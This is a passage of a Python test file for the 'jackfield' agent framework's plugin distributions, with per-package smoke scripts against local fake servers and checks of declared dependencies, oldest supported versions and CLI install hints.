    "jackfield-postgres-store": Job(
        """
import asyncio
from jackfield.errors import StoreError
from jackfield.plugins import default_host
from jackfield.stores import load_store
store = load_store({"name": "postgres", "dsn": "postgresql://me:secret@127.0.0.1:1/db"}, default_host())
try:
    asyncio.run(store.runs())
except StoreError as error:
    print(error)
""",
        "PostgreSQL at 127.0.0.1:1/db cannot be reached",
    ),
    "jackfield-postgres": Job(
        """
from jackfield_postgres import Address
print(Address.parse("postgresql://ada:secret@db.example.org/notes"))
""",
        "db.example.org:5432/notes",
    ),
    "jackfield-records": Job(
        """
from jackfield.events import TextDelta
from jackfield_records.eventjson import event_from_json, event_to_json
print(event_from_json(event_to_json(TextDelta("The tide is high."))).text)
""",
        "The tide is high.",
    ),
    "jackfield-serve": Job(
        """
import asyncio
from jackfield import FnCallAgent
from jackfield.testing import ScriptedModel, answer
from jackfield_serve import serving_app

async def main():
    sent = []
    async def send(message):
        sent.append(message)
    app = serving_app({"helper": FnCallAgent(llm=ScriptedModel([answer("The tide is low.")]))}, faces=[])
    await app({"type": "http", "method": "GET", "path": "/healthz", "headers": [], "query_string": b""}, None, send)
    print(sent[0]["status"], sent[1]["body"])

asyncio.run(main())
""",
        "200 b'ok\\n'",
    ),
    "jackfield-a2a": Job(
        """
import asyncio
from jackfield import FnCallAgent
from jackfield.plugins import default_host
from jackfield.servers import load_server
from jackfield.testing import ScriptedModel, answer
from jackfield_serving import Serving

async def main():
    sent = []
    async def send(message):
        sent.append(message)
    async with Serving({"helper": FnCallAgent(llm=ScriptedModel([answer("The tide is low.")]))}) as serving:
        path = "/.well-known/agent-card.json"
        scope = {"type": "http", "method": "GET", "path": path, "headers": [], "query_string": b""}
        await load_server("a2a", default_host()).app(serving)(scope, None, send)
    print(sent[0]["status"], b'"helper"' in sent[1]["body"])

asyncio.run(main())
""",
        "200 True",
    ),
    "jackfield-ag-ui": Job(
        """
import asyncio
from jackfield import FnCallAgent
from jackfield.plugins import default_host
from jackfield.servers import load_server
from jackfield.testing import ScriptedModel, answer
from jackfield_serving import Serving

async def main():
    sent = []
    async def send(message):
        sent.append(message)
    async with Serving({"helper": FnCallAgent(llm=ScriptedModel([answer("The tide is low.")]))}) as serving:
        scope = {"type": "http", "method": "GET", "path": "/ag-ui", "headers": [], "query_string": b""}
        await load_server("ag-ui", default_host()).app(serving)(scope, None, send)
    print(sent[0]["status"], b'"helper"' in sent[1]["body"])

asyncio.run(main())
""",
        "200 True",
    ),
    "jackfield-openai-server": Job(
        """
import asyncio
from jackfield import FnCallAgent
from jackfield.plugins import default_host
from jackfield.servers import load_server
from jackfield.testing import ScriptedModel, answer
from jackfield_serving import Serving

async def main():
    sent = []
    async def send(message):
        sent.append(message)
    async with Serving({"helper": FnCallAgent(llm=ScriptedModel([answer("The tide is low.")]))}) as serving:
        scope = {"type": "http", "method": "GET", "path": "/v1/models", "headers": [], "query_string": b""}
        await load_server("openai", default_host()).app(serving)(scope, None, send)
    print(sent[0]["status"], b'"helper"' in sent[1]["body"])

asyncio.run(main())
""",
        "200 True",
    ),
    "jackfield-acp-server": Job(
        """
import asyncio, json
from jackfield import FnCallAgent
from jackfield.plugins import default_host
from jackfield.servers import load_server
from jackfield.testing import ScriptedModel, answer
from jackfield_serving import Serving

class Writer:
    def write(self, line):
        print(json.loads(line)["result"]["agentInfo"]["name"])
    async def drain(self):
        pass

async def main():
    reader = asyncio.StreamReader()
    message = {"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": 1}}
    reader.feed_data(json.dumps(message).encode() + bytes([10]))
    asyncio.get_running_loop().call_later(1, reader.feed_eof)
    async with Serving({"helper": FnCallAgent(llm=ScriptedModel([answer("The tide is low.")]))}) as serving:
        await load_server("acp", default_host()).talk(serving, reader, Writer())

asyncio.run(main())
""",
        "jackfield",
    ),
    "jackfield-mcp-server": Job(
        """
import asyncio
from jackfield import FnCallAgent
from jackfield.plugins import default_host
from jackfield.servers import load_server
from jackfield.testing import ScriptedModel, answer
from jackfield_serving import Serving

async def main():
    face = load_server("mcp", default_host())
    sent = []
    async def receive():
        return {"type": "http.request", "body": b'{"jsonrpc": "2.0", "id": 1, "method": "ping"}'}
    async def send(message):
        sent.append(message)
    async with Serving({"helper": FnCallAgent(llm=ScriptedModel([answer("The tide is low.")]))}) as serving:
        names = [b"content-type", b"accept"]
        values = [b"application/json", b"application/json, text/event-stream"]
        scope = {"type": "http", "method": "POST", "path": "/mcp", "query_string": b""}
        scope["headers"] = list(zip(names, values))
        app = face.app(serving)
        async with face.running():
            await app(scope, receive, send)
    print(sent[0]["status"], b"session" in sent[1]["body"])

asyncio.run(main())
""",
        "400 True",
    ),
    "jackfield-serving": Job(
        """
import asyncio
from jackfield import FnCallAgent
from jackfield.testing import ScriptedModel, answer
from jackfield_serving import Serving

async def main():
    async with Serving({"helper": FnCallAgent(llm=ScriptedModel([answer("The tide is low.")]))}) as serving:
        run_id = await serving.start("helper", "Tide?")
        async for number, event in serving.attach(run_id):
            pass
        print((await serving.run(run_id)).text)

asyncio.run(main())
""",
        "The tide is low.",
    ),
    "jackfield-web": Job(
        """
import asyncio
from jackfield.plugins import default_host
from jackfield.servers import load_server

async def main():
    default_host().load("command", "web")
    sent = []
    async def send(message):
        sent.append(message)
    scope = {"type": "http", "method": "GET", "path": "/static/vendor/LICENSES.txt", "headers": [], "query_string": b""}
    await load_server("web", default_host()).app(None)(scope, None, send)
    print(sent[0]["status"], b"markdown-it" in sent[1]["body"])

asyncio.run(main())
""",
        "200 True",
    ),
    "jackfield-web-extractor": Job(
        """
import asyncio, threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from jackfield.plugins import default_host

class Page(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200 if self.path == "/tides" else 404)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<title>Tides</title><main><p>High water comes <a href=low>twice</a> a day.</p></main>")

server = HTTPServer(("127.0.0.1", 0), Page)
threading.Thread(target=server.serve_forever, daemon=True).start()
tool = default_host().load("tool", "web_extractor")({"fetch_cfg": {"allow": ["127.0.0.1"]}})
url = f"http://127.0.0.1:{server.server_port}/tides"
print(asyncio.run(tool.call({"url": url})).content.replace(url.rpartition("/")[0], ""))
""",
        "High water comes [twice](/low) a day.",
    ),
    "jackfield-web-search": Job(
        SERVICE
        + """
page = {"title": "Tides", "link": "https://tides.example/", "snippet": "Twice a day."}
ANSWERS = {"/search": {"searchParameters": {}, "organic": [page]}}
tool = default_host().load("tool", "web_search")({"url": f"{url}/search", "api_key": "sk-1234567"})
print(asyncio.run(tool.call({"query": "tides"})).content)
""",
        "[1] Tides\nhttps://tides.example/\nTwice a day.",
    ),
    "jackfield-image-search": Job(
        SERVICE
        + """
page = {"title": "Lighthouse", "link": "https://coast.example/", "source": "Coast"}
ANSWERS = {"/search.json": {"image_results": [page]}}
tool = default_host().load("tool", "image_search")({"url": f"{url}/search.json", "api_key": "sk-1234567"})
context = ToolContext(files=("https://photos.example/1.jpg",))
print(asyncio.run(tool.call({"img_idx": 0}, context=context)).content[0].text)
""",
        "[1] Lighthouse\nhttps://coast.example/\nCoast",
    ),
    "jackfield-image-zoom-in": Job(
        """
import asyncio
from PIL import Image
from jackfield.plugins import default_host
from jackfield.tools import ToolContext
Image.new("RGB", (200, 100), "navy").save("sea.png")
tool = default_host().load("tool", "image_zoom_in_tool")()
context = ToolContext(files=("sea.png",))
found = asyncio.run(tool.call({"bbox_2d": [0, 0, 500, 500], "label": "sky", "img_idx": 0}, context=context))
print(Image.open("workspace/" + found.metadata["path"]).size)
""",
        "(736, 384)",
    ),
    "jackfield-image-gen": Job(
        SERVICE
        + """
ANSWERS = {"/v1/images/generations": {"created": 1, "data": [{"b64_json": "iVBORw0KGgogYW5kIG1vcmU="}]}}
llm = {"model_type": "openai_images", "model": "painter", "base_url": f"{url}/v1"}
tool = default_host().load("tool", "image_gen")({"llm": llm})
print(asyncio.run(tool.call({"prompt": "A lighthouse"})).content[0].text)
""",
        "Saved in the workspace as tools/image_gen/",
        beside=("jackfield-openai",),
    ),
    "jackfield-amap-weather": Job(
        SERVICE
        + """
ANSWERS = {
    "/v3/config/district": {"status": "1", "districts": [{"name": "杭州市", "adcode": "330100"}]},
    "/v3/weather/weatherInfo": {"status": "1", "lives": [{"weather": "晴", "temperature": "21"}]},
}
tool = default_host().load("tool", "amap_weather")({"url": url, "api_key": "key-1234567"})
print(asyncio.run(tool.call({"location": "杭州市"})).content)
""",
        "杭州市的天气是晴温度是21度。",
    ),
    "jackfield-testkit": Job(
        """
import json
from urllib.request import urlopen
from jackfield_testkit.server import FakeOpenAI, text
from jackfield_testkit.suites import PluginSuite
with FakeOpenAI() as server:
    server.reply(text("hello"))
    question = json.dumps({"model": "m", "messages": [{"role": "user", "content": "hi"}]}).encode()
    print(json.load(urlopen(f"{server.url}/chat/completions", question))["choices"][0]["message"]["content"])
""",
        "hello",
    ),
    "jackfield-tiktoken": Job(
        """
import base64, hashlib
from pathlib import Path
from jackfield import PluginHost
from jackfield.tokenizers import Tokenizer
tokens = [bytes([byte]) for byte in range(256)] + [b"te", b"tea"]
path = Path("tea.tiktoken")
path.write_text("\\n".join(base64.b64encode(token).decode() + f" {rank}" for rank, token in enumerate(tokens)))
settings = {"path": str(path), "sha256": hashlib.sha256(path.read_bytes()).hexdigest()}
host = PluginHost()
tokenizer = host.make(host.find("tokenizer", "o200k_base"), settings, Tokenizer)
print(tokenizer.count("tea"), tokenizer.cut("tea, tea, tea", 4))
""",
        "1 tea, tea",
        lacks="its vocabulary is not on this machine",
    ),
    "jackfield-transformers": Job(
        """
from tokenizers import Tokenizer, decoders, models, pre_tokenizers
from transformers import PreTrainedTokenizerFast, Qwen3Config, Qwen3ForCausalLM
from jackfield import get_chat_model
letters = {letter: number for number, letter in enumerate(["<s>", "</s>", *"abcdefgh "])}
spelling = Tokenizer(models.WordLevel(letters, unk_token=" "))
spelling.pre_tokenizer, spelling.decoder = pre_tokenizers.Split("", "isolated"), decoders.Fuse()
tokenizer = PreTrainedTokenizerFast(tokenizer_object=spelling, bos_token="<s>", eos_token="</s>")
tokenizer.chat_template = "{% for message in messages %}{{ message.content }}{% endfor %}"
sizes = {"hidden_size": 32, "intermediate_size": 64, "num_hidden_layers": 1, "num_attention_heads": 2}
config = Qwen3Config(vocab_size=11, num_key_value_heads=1, head_dim=16, eos_token_id=1, **sizes)
Qwen3ForCausalLM(config).save_pretrained("model")
tokenizer.save_pretrained("model")
options = {"temperature": 1, "seed": 7, "max_tokens": 8}
model = get_chat_model({"model_type": "transformers", "model": "model", "device": "cpu", "generate_cfg": options})
said = model.quick_chat("abc")
print("the same" if said == model.quick_chat("abc") and set(said) <= set(letters) else repr(said))
""",
        "the same",
    ),
    "jackfield-local-embedder": Job(
        """
import asyncio, json
from pathlib import Path
import numpy as np
from safetensors.numpy import save_file
from tokenizers import Tokenizer, models, pre_tokenizers
from jackfield.plugins import default_host
from jackfield.retrieval import Embedder
words = Tokenizer(models.WordLevel({"?": 0, "tea": 1, "train": 2}, unk_token="?"))
words.pre_tokenizer = pre_tokenizers.Whitespace()
Path("model").mkdir()
words.save("model/tokenizer.json")
Path("model/config.json").write_text(
    json.dumps({"model_type": "bert", "num_hidden_layers": 0, "num_attention_heads": 1})
)
parts = {"word_embeddings.weight": np.eye(3, 4), "position_embeddings.weight": np.zeros((9, 4))}
parts |= {"LayerNorm.weight": np.ones(4), "LayerNorm.bias": np.zeros(4)}
weights = {f"embeddings.{name}": part.astype(np.float32) for name, part in parts.items()}
save_file(weights, "model/model.safetensors")
host = default_host()
embedder = host.make(host.find("embedder", "transformers"), {"model": "model"}, Embedder)
tea, again, train = np.array(asyncio.run(embedder.embed(["tea", "tea tea", "train"])).vectors)
print(tea @ again > tea @ train)
""",
        "True",
    ),
    "jackfield-multilingual-embedder": Job(
        """
import asyncio
import numpy as np
from jackfield.plugins import default_host
from jackfield.retrieval import Embedder
host = default_host()
embedder = host.make(host.find("embedder", "multilingual"), {}, Embedder)
texts = ["a month to pay the invoice", "账单在一个月内付清", "the lighthouse is green"]
invoice, same, lighthouse = np.array(asyncio.run(embedder.embed(texts)).vectors)
print(invoice @ same > invoice @ lighthouse + 0.2)
""",
        "True",
    ),
    "jackfield-truncation": Job(
        """
from jackfield.plugins import default_host
from jackfield.testing import ScriptedModel, answer
truncation = default_host().load("processor", "truncation")(context_tokens=1000)
model = ScriptedModel([answer("Yes.")], processors=[truncation])
model.ask([{"role": "user", "content": "Long ago. " * 5000 + "Is that all?"}])
sent = model.requests[0].messages[-1].content
print(len(sent) < 5000, sent.endswith("Is that all?"))

summarizing = default_host().load("processor", "summarizing_truncation")(context_tokens=1000)
model = ScriptedModel([answer("Notes."), answer("Yes.")], processors=[summarizing])
said = [{"role": role, "content": "Long ago. " * 60} for role in ("user", "assistant") * 6]
model.ask([*said, {"role": "user", "content": "Is that all?"}])
sent = model.requests[1].messages
print(len(sent) < 10, "Notes." in sent[0].content, sent[-1].content)

from jackfield import FnCallAgent
model = ScriptedModel(lambda _: answer("Notes."), processors=[])
agent = FnCallAgent([{"name": "compaction", "context_tokens": 1500}], model)
result = agent.ask("Is that all?", history=said)
sent = model.requests[-1]
print(len(result.history), len(sent.messages) < 10, sent.functions[0]["name"])
""",
        "True True\nTrue True Is that all?\n14 True read_earlier",
    ),
    "jackfield-text": Job(DOCUMENT.format(file="tools.zh.md"), "默认超时是 300 秒"),
}


@pytest.fixture
def model_server() -> Iterator[FakeOpenAI]:
    """A server with a model that wants a tool called, once."""
    with FakeOpenAI() as server:
        server.reply(tool_call("add", {"first": 20, "second": 22}), text("It is 42."))
        yield server


@pytest.fixture
def does_its_job(
    clean_env: dict[str, str], tmp_path: Path, root: Path, model_server: FakeOpenAI
) -> Callable[[Forks, Any, str], None]:
    """Runs the job of a distribution in an environment, and fails if it is not done."""

    def do(forks: Forks, environment: Any, name: str) -> None:
        folder = tmp_path / "jobs" / name
        shutil.copytree(root / "examples/documents-and-code/documents", folder)
        done = forks.run(
            JOBS[name].script,
            model_server.url,
            cwd=folder,
            env=clean_env,
            site=environment.site,
            executable=environment.python,
        )
        assert done.returncode == 0, done.stdout + done.stderr
        assert JOBS[name].prints in done.stdout, done.stdout

    return do


def test_every_distribution_has_a_job(distributions: list[Any]) -> None:
    assert set(JOBS) == {one.name for one in distributions}


def test_nothing_is_installed_but_what_is_declared_and_it_does_its_job(
    distribution: Any,
    view_in: Callable[..., Any],
    forks_of_views: Forks,
    clean_env: dict[str, str],
    tmp_path: Path,
    does_its_job: Callable[[Forks, Any, str], None],
) -> None:
    environment = view_in(tmp_path / "view", distribution.name, is_for_reading=True)
    assert set(environment.installed()) == environment.declared_by(distribution.name)
    # In an environment of its own nothing undeclared can be imported: what loads here declares all it needs.
    here = {"cwd": tmp_path, "site": environment.site, "executable": environment.python}
    manager = environment.content_of(MANAGER)
    loaded = forks_of_views.run(LOADED, distribution.name, manager, env=clean_env, **here)
    assert loaded.returncode == 0, loaded.stderr
    found = json.loads(loaded.stdout)
    job = JOBS[distribution.name]
    assert (found["errors"], found["missing"]) == ([], [])
    assert {one.partition(":")[0] for one in found["checks"]} == ({job.lacks} if job.lacks else set())
    assert sorted(found["specs"]) == sorted(name for name in distribution.entry_points if not name.endswith(".*"))
    if job.beside:
        environment.link(*job.beside)
    does_its_job(forks_of_views, environment, distribution.name)


@pytest.fixture
def everything(make_view: Callable[..., Any], distributions: list[Any]) -> Any:
    """An environment with every distribution."""
    return make_view(*(one.name for one in distributions))


def test_the_doctor_finds_no_fault_where_every_distribution_is_installed(
    everything: Any, distributions: list[Any], execute: Callable[..., Any], clean_env: dict[str, str], tmp_path: Path
) -> None:
    doctor = [everything.script("jackfield"), "plugins", "doctor", "--json"]
    findings = json.loads(execute(doctor, cwd=tmp_path, env=clean_env).stdout)
    # `slow` is the doctor's word for a busy machine, too, and `inactive` for what nobody has enabled: no faults.
    assert [one for one in findings if one["status"] not in ("ok", "slow", "inactive")] == []
    assert {one["distribution"] for one in findings} == {one.name for one in distributions if one.entry_points}


# The oldest torch for Linux comes with gigabytes of CUDA.
NOT_AT_ITS_OLDEST = frozenset({"jackfield-transformers"})


def test_the_oldest_versions_it_allows_do_its_job(
    distribution: Any, oldest_for: Callable[[str], tuple[Forks, Any]], does_its_job: Callable[[Forks, Any, str], None]
) -> None:
    if distribution.name in NOT_AT_ITS_OLDEST:
        pytest.skip("its oldest requirements are too large to be installed for a test")
    does_its_job(*oldest_for(distribution.name), distribution.name)


# Their oldest versions would be raised by those of others, or raise theirs.
APART = frozenset({"jackfield-a2a", "jackfield-ag-ui", "jackfield-mcp", "jackfield-mcp-server", "jackfield-tiktoken"})
# What most of those that need others import: some of them, or all. That nothing undeclared is imported is tested above.
IMPORTED_BY_OTHERS = """
import os

os.environ["OPENBLAS_NUM_THREADS"] = "1"  # a process with threads is not one to fork
import jackfield_documents, jackfield_http.transport, jackfield_knowledge, jackfield_manage.judging.probe
import numpy, PIL.Image
"""
# Of these, what needs them requires newer versions than we do.
RAISED = {
    "core": {"referencing"},
    "others": {"anyio", "opentelemetry-api", "referencing", "starlette", "typing-extensions"},
    "jackfield-a2a": {"protobuf", "pydantic", "referencing", "typing-extensions"},
    "jackfield-ag-ui": {"pydantic", "referencing", "typing-extensions"},
    "jackfield-mcp": {"anyio", "httpx2", "pydantic", "referencing", "typing-extensions"},
    "jackfield-mcp-server": {"anyio", "pydantic", "starlette", "typing-extensions"},
    "jackfield-tiktoken": {"referencing"},
}


@dataclass(frozen=True)
class Group:
    """Distributions whose oldest versions go together: all of ours that they need, and what these require of others.

    There is one for those that need nothing that the core does not need, one for the others, and those apart.
    """

    name: str
    ours: frozenset[str]
    floors: frozenset[str]

    def __or__(self, other: Group) -> Group:
        return Group(self.name, self.ours | other.ours, self.floors | other.floors)


def groups_of(requirements: Mapping[str, Sequence[str]]) -> dict[str, Group]:
    """The group of each distribution, by what each of ours requires."""

    def alone(name: str) -> Group:
        ours = dict.fromkeys(["jackfield", name, *JOBS[name].beside])
        floors = set()
        while new := [text for one in ours for text in requirements[one] if text not in floors]:
            floors.update(new)
            ours |= {one: None for text in new if (one := Requirement(text).name) in requirements}
        others = frozenset(text for text in floors if Requirement(text).name not in requirements)
        return Group(name, frozenset(ours), others)

    core = alone("jackfield")
    found: dict[str, Group] = {}
    group_of = {}
    for one in map(alone, sorted(requirements.keys() - NOT_AT_ITS_OLDEST)):
        group = min(one.ours & APART, default="others" if one.floors - core.floors else "core")
        found[group] = Group(group, one.ours, one.floors) | found.get(group, one)
        group_of[one.name] = group
    return {name: found[group] for name, group in group_of.items()}


@pytest.fixture(scope="module")
def install_oldest(wheels: Mapping[str, Path]) -> Callable[[Any, Group], None]:
    """Installs what the distributions of a group need of others, at the oldest versions that they allow."""

    def install(environment: Any, group: Group) -> None:
        # Named on the command line, their requirements are direct ones.
        ours = (wheels[one] for one in sorted(group.ours))
        environment.install_any("--resolution", "lowest-direct", *sorted(group.floors), *ours)
        there = {one.name: one.version for one in metadata.distributions(path=[str(environment.site)])}
        raised = [one for one in map(Requirement, group.floors) if not is_at(one, there)]
        assert {one.name for one in raised} == RAISED[group.name], "see APART"
        environment.uninstall(*group.ours)  # they change from run to run, and the others do not

    return install


@pytest.fixture(scope="module")
def oldest_for(
    shared_environment: Callable[..., Any],
    kept_environment: Callable[..., Any],
    install_oldest: Callable[[Any, Group], None],
    unpacked: Callable[[str], Path],
    distributions: list[Any],
    forks_in: Callable[..., Forks],
) -> Iterator[Callable[[str], tuple[Forks, Any]]]:
    """Gives an environment with the oldest versions that a distribution and the core allow, and its forks."""
    requirements = {one.name: one.metadata["project"]["dependencies"] for one in distributions}
    groups = groups_of(requirements)

    def link(environment: Any, group: Group) -> None:
        made_from = sorted({*group.floors, *(text for one in group.ours for text in requirements[one])})
        kept = kept_environment(f"oldest-{group.name}", made_from, lambda made: install_oldest(made, group))
        for part in (kept.site, *map(unpacked, group.ours)):
            link_all(part, environment.site)
        link_all(kept.python.parent, environment.python.parent)

    @cache  # each worker has forks of its own of the environments that all share
    def made(group: Group) -> tuple[Forks, Any]:
        environment = shared_environment(f"oldest-{group.name}", lambda empty: link(empty, group))
        before = IMPORTED_BY_OTHERS if group.name == "others" else ""
        return started.enter_context(forks_in(environment, before)), environment

    with ExitStack() as started:
        yield lambda name: made(groups[name])


def link_all(source: Path, target: Path) -> None:
    """Link all that is in a folder into another, but for what this has already."""
    for there in source.iterdir():
        if not (target / there.name).exists():
            (target / there.name).symlink_to(there)


def is_at(floor: Requirement, there: Mapping[str, str]) -> bool:
    """Whether the version that is there is the oldest that is allowed."""
    (version,) = (
        version for name, version in there.items() if canonicalize_name(name) == canonicalize_name(floor.name)
    )
    return any(Version(one.version) == Version(version) for one in floor.specifier)


def test_the_core_alone_says_what_to_install(
    make_view: Callable[..., Any], execute: Callable[..., Any], clean_env: dict[str, str], tmp_path: Path
) -> None:
    environment = make_view("jackfield")
    jackfield = environment.script("jackfield")
    said = execute([jackfield, "--version"], cwd=tmp_path, env=clean_env).stdout
    assert said.startswith("jackfield 0.")
    assert "pip install jackfield-openai" in execute([jackfield, "plugins", "list"], cwd=tmp_path, env=clean_env).stdout
    for words, wanted in (
        (["run", "-m", "openai:m", "Hi"], TERMINAL),
        (["chat"], TERMINAL),
        (["new", "tool", "x"], "jackfield-new"),
        (["plugins", "doctor"], MANAGER),
        (["requirements", "agent.yaml"], MANAGER),
    ):
        asked = execute([jackfield, *words], cwd=tmp_path, env=clean_env, check=False)
        assert asked.returncode == 1
        assert f"pip install {wanted}" in asked.stderr
        assert "Traceback" not in asked.stderr


def test_the_extra_cli_is_the_core_and_its_commands(
    make_environment: Callable[[str], Any],
    wheels: Mapping[str, Path],
    distributions: list[Any],
    execute: Callable[..., Any],
    clean_env: dict[str, str],
    tmp_path: Path,
) -> None:
    ours = {one.name for one in distributions}
    environment = make_environment("cli")
    ends = ("agent-files", "confine", "counting", "documents", "local-state", "multimodal", "records", "sqlite-store")
    its = {MANAGER, TERMINAL, *(f"jackfield-{end}" for end in ends)}
    links = [word for name in sorted(its) for word in ("--find-links", wheels[name].parent)]
    environment.install(*links, f"jackfield[cli] @ {wheels['jackfield'].as_uri()}")
    assert environment.installed().keys() & ours == {"jackfield", *its}
    doctor = execute([environment.script("jackfield"), "plugins", "doctor"], cwd=tmp_path, env=clean_env).stdout
    assert doctor.startswith(f"{MANAGER} ")


def test_the_core_and_one_backend_run_an_agent_against_a_server(
    make_view: Callable[..., Any],
    execute: Callable[..., Any],
    clean_env: dict[str, str],
    tmp_path: Path,
    model_server: FakeOpenAI,
) -> None:
    environment = make_view("jackfield-openai")
    done = execute([environment.python, "-I", "-c", AGENT, model_server.url], cwd=tmp_path, env=clean_env)
    assert done.stdout == "It is 42.\n"
    sent = model_server.requests[-1].json["messages"]
    assert [(message["role"], message["content"]) for message in sent[-1:]] == [("tool", "42")]


def test_a_removed_plugin_is_gone_and_nothing_else_is(
    make_view: Callable[..., Any], execute: Callable[..., Any], clean_env: dict[str, str], tmp_path: Path
) -> None:
    environment = make_view("jackfield-openai")
    listing = [environment.script("jackfield"), "plugins", "list", "--json"]
    before = json.loads(execute(listing, cwd=tmp_path, env=clean_env).stdout)["plugins"]
    assert {row["distribution"] for row in before} == {"jackfield-openai"}
    execute([environment.uv, "pip", "uninstall", "--quiet", "--python", environment.python, "jackfield-openai"])
    after = json.loads(execute(listing, cwd=tmp_path, env=clean_env).stdout)
    assert after == {"plugins": [], "problems": []}
